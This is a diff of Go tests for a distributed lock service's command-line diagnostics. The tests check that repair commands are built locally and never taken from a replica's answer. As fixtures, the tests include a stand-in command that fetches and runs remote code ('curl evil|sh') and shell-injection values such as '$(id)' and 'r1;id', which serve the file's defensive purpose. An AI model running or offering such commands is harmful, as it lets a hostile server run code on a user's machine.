@@ -30,6 +30,7 @@ type host struct {
 	hung  bool           // takes calls and does not answer them
 	// asleep: it hangs for so long, then answers for awake, and so on.
 	asleep time.Duration
+	mute   string         // calls of paths that begin so are not answered
 	api    map[string]any // other answers, by path
 }
 
@@ -42,13 +43,15 @@ func (h hosts) RoundTrip(r *http.Request) (*http.Response, error) {
 	}
 	began := time.Unix(946684800, 0) // when virtual time begins
 	switch {
-	case at.hung, at.asleep > 0 && time.Since(began)%(at.asleep+awake) < at.asleep, strings.HasSuffix(r.URL.Path, "/keepalive"):
+	case at.hung, at.mute != "" && strings.HasPrefix(r.URL.Path, at.mute), at.asleep > 0 && time.Since(began)%(at.asleep+awake) < at.asleep, strings.HasSuffix(r.URL.Path, "/keepalive"):
 		<-r.Context().Done()
 		return nil, r.Context().Err()
 	case at.cell == nil && at.ready == nil:
 		return nil, &net.OpError{Op: "dial", Net: "tcp", Err: errors.New("connection refused")}
 	}
-	time.Sleep(at.after)
+	if at.after > 0 && !sleep(r.Context(), at.after) {
+		return nil, r.Context().Err()
+	}
 	status, body := http.StatusOK, any(struct{}{})
 	switch {
 	case at.api[r.URL.Path] != nil:
@@ -105,7 +108,7 @@ func asApp(t *testing.T, h hosts, servers ...string) *app {
 }
 
 func TestSurvey(t *testing.T) {
-	outsider := &lockapi.Error{Code: lockapi.CodeNoMaster, Detail: "another directory", Command: "stout member replace r1"}
+	outsider := &lockapi.Error{Code: lockapi.CodeNoMaster, Detail: "another directory", Directory: "00c0ffee00c0ffee", Command: "curl evil|sh"}
 	tests := map[string]struct {
 		hosts   hosts
 		servers []string
@@ -158,7 +161,7 @@ func TestSurvey(t *testing.T) {
 				"r2": {cell: view(3, "", false)}, "r3": {cell: view(4, "r3", false), later: view(4, "r3", true)},
 			},
 			servers: []string{"http://r1", "http://r2", "http://r3"},
-			took:    200 * time.Millisecond, master: "r3", held: true,
+			took:    100 * time.Millisecond, master: "r3", held: true,
 		},
 		"nobody answers": {
 			hosts:   hosts{"r1": {hung: true}},
@@ -217,7 +220,10 @@ func wellOf(cell lockapi.Cell) []string {
 func TestExamine(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		h := hosts{
-			"r1": {ready: &lockapi.Error{Code: lockapi.CodeNoMaster, Detail: "its directory is not the member's", Command: "stout member replace r1"}},
+			"r1": {ready: &lockapi.Error{
+				Code: lockapi.CodeNoMaster, Directory: "00c0ffee00c0ffee", Command: "curl evil|sh",
+				Detail: "its directory is not the member's; to have it take that place: curl evil|sh",
+			}},
 			"r3": {hung: true}, "r5": {ready: lockapi.Errorf(lockapi.CodeNoMaster, "no master is known")},
 			"r6": {cell: view(1, "", false)},
 		}
@@ -230,16 +236,16 @@ func TestExamine(t *testing.T) {
 			})
 		}
 		want := []finding{
-			{"r1", "its directory is not the member's", "stout member replace r1"},
-			{"r2", "does not answer (connection refused); last heard of 4s ago", ""},
-			{"r3", "does not answer (no answer within 1s); last heard of 4s ago", ""},
-			{"r5", "answers, and is not ready: no master is known", ""},
-			{"r6", "is not heard by the master, and answers here", ""},
-			{"r7", "is 65 entries behind", ""},
+			{"r1", "its directory is not the member's", true, "stout member replace r1 --directory 00c0ffee00c0ffee"},
+			{"r2", "does not answer (connection refused); last heard of 4s ago", false, ""},
+			{"r3", "does not answer (no answer within 1s); last heard of 4s ago", false, ""},
+			{"r5", "answers, and is not ready: no master is known", false, ""},
+			{"r6", "is not heard by the master, and answers here", false, ""},
+			{"r7", "is 65 entries behind", false, ""},
 		}
 		got := asApp(t, h, "http://r1").examine(t.Context(), &cell)
 		if !slices.Equal(got, want) {
-			t.Errorf("got %q\nwant %q", got, want)
+			t.Errorf("got %+v\nwant %+v", got, want)
 		}
 		if !outsider(got, "r1") || outsider(got, "r2") {
 			t.Error("r1 alone is none of the cell's")
@@ -251,7 +257,90 @@ func TestExamine(t *testing.T) {
 		h["r2"] = h["r6"]
 		got = asApp(t, h, "http://r1").examine(t.Context(), &cell)
 		if !slices.Equal(got, want[:1]) || !slices.Equal(wellOf(cell.Cell), []string{"r2", "r3"}) {
-			t.Errorf("without a master: %q; %q are well", got, wellOf(cell.Cell))
+			t.Errorf("without a master: %+v; %q are well", got, wellOf(cell.Cell))
 		}
 	})
+}
+
+// The command that mends is made here: whoever answers at a replica's address
+// chooses nothing of it but a directory.
+func TestReplaceCommand(t *testing.T) {
+	const id, dir, want = "r-1", "00c0ffee00c0ffee", "stout member replace r-1 --directory 00c0ffee00c0ffee"
+	if got := replaceCommand(id, dir); got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+	for _, tt := range [][2]string{
+		{"", dir}, {"r1;id", dir}, {"r1 r2", dir}, {"$(id)", dir}, {"--yes", dir}, {"r1\x1b", dir},
+		{id, ""}, {id, dir + ";id"}, {id, "00C0FFEE00C0FFEE"}, {id, "$(id)"}, {id, "00c0ffee00c0ffe "},
+	} {
+		if got := replaceCommand(tt[0], tt[1]); got != "" {
+			t.Errorf("for %q, %q: %q", tt[0], tt[1], got)
+		}
+	}
+}
+
+// What to do about servers that are none of a cell is said in words of our own.
+func TestUnreachableGivesNoForeignCommand(t *testing.T) {
+	a := asApp(t, nil, "http://r1", "http://r2")
+	lost := lockapi.Errorf(lockapi.CodeNoMaster, "wiped; to have it take that place: curl evil|sh")
+	lost.Directory, lost.Command = "00c0ffee00c0ffee", "curl evil|sh"
+	waits := lockapi.Errorf(lockapi.CodeNoMaster, "it waits for r3")
+	waits.Directory = lost.Directory
+	for name, tt := range map[string]struct {
+		failed map[string]error
+		want   string
+	}{
+		"a stranger": {map[string]error{"http://r1": lost}, "no replica of a cell can be reached|http://r1: answers: wiped|http://r2: no answer within 1s|" +
+			"name the other replicas, too, with --server or STOUT_SERVER: stout status then has the command that mends it"},
+		"a founding": {map[string]error{"http://r1": waits, "http://r2": waits}, "no replica of a cell can be reached|http://r1: answers: it waits for r3|" +
+			"http://r2: answers: it waits for r3|a cell is founded once all its replicas run and see each other"},
+	} {
+		f := a.unreachable(tt.failed, time.Second)
+		if got := strings.Join(append(append([]string{f.message}, f.details...), f.hints...), "|"); got != tt.want {
+			t.Errorf("%s: %s\nwant %s", name, got, tt.want)
+		}
+	}
+}
+
+// The Tab key waits for a second, whoever hangs.
+func TestReplicaIDsKeepToTheirTime(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		h := hosts{"r1": {cell: view(3, "", false)}, "r2": {hung: true}, "r3": {hung: true}}
+		a := asApp(t, h, "http://r1", "http://r2", "http://r3")
+		began := time.Now()
+		found := a.replicaIDs(t.Context(), "r")
+		if took := time.Since(began); took > completeTimeout || len(found) != 3 {
+			t.Errorf("%q after %v", found, took)
+		}
+	})
+}
+
+// A command that was given up goes on for a second at most to find out why.
+func TestDiagnose(t *testing.T) {
+	const within = 2 * time.Second
+	founding := lockapi.Errorf(lockapi.CodeNoMaster, "it waits for r3")
+	founding.Directory = "00c0ffee00c0ffee"
+	for name, tt := range map[string]struct {
+		hosts hosts
+		code  int
+		says  string
+	}{
+		"no quorum":   {hosts{"r1": {cell: view(3, "", false)}, "r2": {hung: true}, "r3": {hung: true}}, exitNoMaster, "the cell has no master: no lock can be taken or released now"},
+		"hung master": {hosts{"r1": {hung: true}, "r2": {cell: view(3, "", false), mute: lockapi.RouteCell}}, exitNoMaster, "no master has answered within 2s"},
+		"a founding":  {hosts{"r2": {ready: founding, api: map[string]any{lockapi.RouteReplica: lockapi.Replica{ID: "r2"}}}}, exitUnreachable, "no replica of a cell can be reached"},
+		"silence":     {hosts{"r1": {hung: true}, "r2": {hung: true}, "r3": {hung: true}}, exitUnreachable, "no replica can be reached"},
+		"busy":        {hosts{"r1": {cell: view(3, "r1", true), after: 100 * time.Millisecond}}, exitUnreachable, "the cell did not answer within 2s"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			synctest.Test(t, func(t *testing.T) {
+				a := asApp(t, tt.hosts, "http://r1", "http://r2", "http://r3")
+				a.opts.timeout = within
+				began := time.Now()
+				f := a.explain(client.ErrNoMaster)
+				if took := time.Since(began); took > lastWords || f.code != tt.code || f.message != tt.says {
+					t.Errorf("after %v: %d, %q", took, f.code, f.message)
+				}
+			})
+		})
+	}
 }
